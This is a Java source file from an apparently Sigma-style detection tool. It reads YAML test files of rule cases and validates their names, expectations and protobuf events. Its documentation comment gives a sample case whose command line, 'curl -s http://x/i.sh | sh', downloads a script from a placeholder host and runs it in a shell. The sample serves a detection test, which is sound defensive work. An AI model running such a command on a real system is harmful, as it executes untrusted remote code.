package io.vigil.detect.ruletest;

import com.google.protobuf.InvalidProtocolBufferException;
import com.google.protobuf.util.JsonFormat;
import io.vigil.detect.sigma.SigmaRuleException;
import io.vigil.detect.sigma.rule.SafeYaml;
import io.vigil.proto.v1.Event;
import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;

/**
 * A rule test file ({@code NAME.test.yml}) as read: one YAML document, a list of cases, each a map
 * with exactly these keys:
 *
 * <pre>
 * - name: curl piped to sh          # unique in the file
 *   expect: match                   # or: no match
 *   event:                          # a vigil.v1.Event in protobuf's JSON form, written as YAML
 *     processExec:
 *       process: {image: /usr/bin/curl, commandLine: "curl -s http://x/i.sh | sh"}
 * </pre>
 *
 * The event is read by protobuf's JSON parser (field names in lowerCamelCase or as in the proto,
 * enums by name, 64-bit numbers as numbers or strings) with unknown fields rejected, so a misspelt
 * field is an error rather than an event that silently lacks it. A case that cannot be read becomes
 * a problem naming it; the other cases still run. Immutable.
 *
 * @param entries how many cases the file lists, readable or not (0 when the file itself is bad)
 */
public record RuleTestFile(
    Path file, int entries, List<RuleTestCase> cases, List<String> problems) {
  private static final Set<String> KEYS = Set.of("name", "expect", "event");
  private static final JsonFormat.Parser EVENTS = JsonFormat.parser();

  public RuleTestFile {
    cases = List.copyOf(cases);
    problems = List.copyOf(problems);
  }

  /** Reads {@code file}; never throws for bad content or I/O: those become problems. */
  public static RuleTestFile read(Path file) {
    List<Object> documents;
    try {
      documents = SafeYaml.loadAll(SafeYaml.readFile(file));
    } catch (SigmaRuleException e) {
      return bad(file, e.getMessage());
    } catch (IOException | RuntimeException e) {
      return bad(file, "cannot read: " + e);
    }
    if (documents.size() != 1 || !(documents.get(0) instanceof List<?> list)) {
      return bad(
          file,
          "a test file is one YAML list of cases, each with name, expect (match or no match)"
              + " and event");
    }
    if (list.isEmpty()) {
      return bad(file, "no test cases");
    }
    List<RuleTestCase> cases = new ArrayList<>();
    List<String> problems = new ArrayList<>();
    Map<String, Integer> firstByName = new HashMap<>();
    for (int i = 0; i < list.size(); i++) {
      int index = i + 1;
      try {
        RuleTestCase c = readCase(index, list.get(i));
        Integer first = firstByName.putIfAbsent(c.name(), index);
        if (first != null) {
          throw new BadCase(c.label() + ": case " + first + " has the same name");
        }
        cases.add(c);
      } catch (BadCase e) {
        problems.add(e.getMessage());
      }
    }
    return new RuleTestFile(file, list.size(), cases, problems);
  }

  private static RuleTestFile bad(Path file, String problem) {
    return new RuleTestFile(file, 0, List.of(), List.of(problem));
  }

  private static RuleTestCase readCase(int index, Object entry) throws BadCase {
    if (!(entry instanceof Map<?, ?> map)) {
      throw new BadCase(
          RuleTestCase.label(index, null) + ": a case is a map with name, expect and event");
    }
    String name = map.get("name") instanceof String s && !s.isBlank() ? s : null;
    String label = RuleTestCase.label(index, name);
    if (name == null) {
      throw new BadCase(label + ": name: missing (a non-empty string)");
    }
    for (Object key : map.keySet()) {
      if (!KEYS.contains(key)) {
        throw new BadCase(label + ": unknown key '" + key + "' (a case has name, expect, event)");
      }
    }
    Object expect = map.get("expect");
    if (!"match".equals(expect) && !"no match".equals(expect)) {
      throw new BadCase(
          label
              + ": expect: must be 'match' or 'no match'"
              + (expect == null ? "" : ", not '" + expect + "'"));
    }
    return new RuleTestCase(index, name, "match".equals(expect), event(label, map.get("event")));
  }

  private static Event event(String label, Object value) throws BadCase {
    if (!(value instanceof Map<?, ?>)) {
      throw new BadCase(
          label + ": event: missing (a map such as {processExec: {process: {image: ...}}})");
    }
    Event.Builder b = Event.newBuilder();
    try {
      EVENTS.merge(YamlJson.write(value, "event"), b);
    } catch (YamlJson.YamlJsonException e) {
      throw new BadCase(label + ": " + e.getMessage());
    } catch (InvalidProtocolBufferException | RuntimeException e) {
      // The parser's message names the field and the message type it was looked up in.
      throw new BadCase(label + ": event: " + e.getMessage());
    }
    if (b.getPayloadCase() == Event.PayloadCase.PAYLOAD_NOT_SET) {
      throw new BadCase(
          label
              + ": event: no payload (processExec, file, connection, dns, http, tls, audit, ...)");
    }
    return b.build();
  }

  /** A case that cannot be read; the message names it. */
  private static final class BadCase extends Exception {
    private static final long serialVersionUID = 1L;

    BadCase(String message) {
      super(message);
    }
  }
}
